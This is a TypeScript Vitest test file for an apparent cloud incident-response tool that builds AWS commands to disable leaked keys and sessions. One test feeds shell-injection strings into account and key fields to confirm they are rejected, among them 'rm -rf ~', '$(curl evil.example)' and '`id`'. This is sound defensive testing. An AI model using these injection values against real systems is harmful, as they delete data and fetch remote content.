import { expect, test } from 'vitest';
import type { IncidentRecord } from '../../../lib/incident/incident-record.ts';
import { answerCommands } from '../../../lib/messages/answer-commands.ts';
import { answerWords } from '../../../lib/messages/answer-words.ts';

const record = (more: Partial<IncidentRecord> = {}): IncidentRecord => ({
  id: 'a',
  counter: '111122223333',
  severity: 'critical',
  cloud: 'aws',
  isDrill: false,
  accounts: ['111122223333'],
  toldAtMs: 0,
  ...more,
});
const commandsOf = (...records: IncidentRecord[]) =>
  answerCommands(records, answerWords.en).map(({ command }) => command);

test('the account, the key and the session of the use are filled in', () => {
  const signInSessionArn = 'arn:aws:signin:us-east-1:111122223333:session/0123-abcd';
  const commands = commandsOf(record({ accessKeyId: 'AKIAIOSFODNN7EXAMPLE', signInSessionArn }));
  expect(commands).toEqual([
    expect.stringMatching(/--target-id 111122223333 .*arn:aws:iam::111122223333:root/),
    expect.stringContaining(`"aws:SignInSessionArn":"${signInSessionArn}"`),
    'aws iam update-access-key --access-key-id AKIAIOSFODNN7EXAMPLE --status Inactive',
    expect.stringMatching(/AttributeKey=AccessKeyId,AttributeValue=AKIAIOSFODNN7EXAMPLE$/),
  ]);
});

test('the key of a session is looked up, and not deactivated, which AWS would refuse', () => {
  const commands = commandsOf(record({ accessKeyId: 'ASIAIOSFODNN7EXAMPLE' }));
  expect(commands.join()).not.toContain('update-access-key');
  expect(commands.join()).toContain('AttributeValue=ASIAIOSFODNN7EXAMPLE');
});

test.each([
  '111122223333; rm -rf ~',
  '$(curl evil.example)',
  "111122223333' --x '",
  '111122223333\nls',
  '`id`',
  'unknown',
])('what is no identifier gets into no command: %s', (text) => {
  const commands = commandsOf(
    record({
      accounts: [text],
      accessKeyId: `AKIA${text}`,
      signInSessionArn: `arn:aws:signin:us-east-1:111122223333:session/${text}`,
    }),
  );
  expect(commands).toEqual([]);
});

test('there is none of AWS for another cloud', () => {
  expect(commandsOf(record({ cloud: 'ncloud' }))).toEqual([]);
});
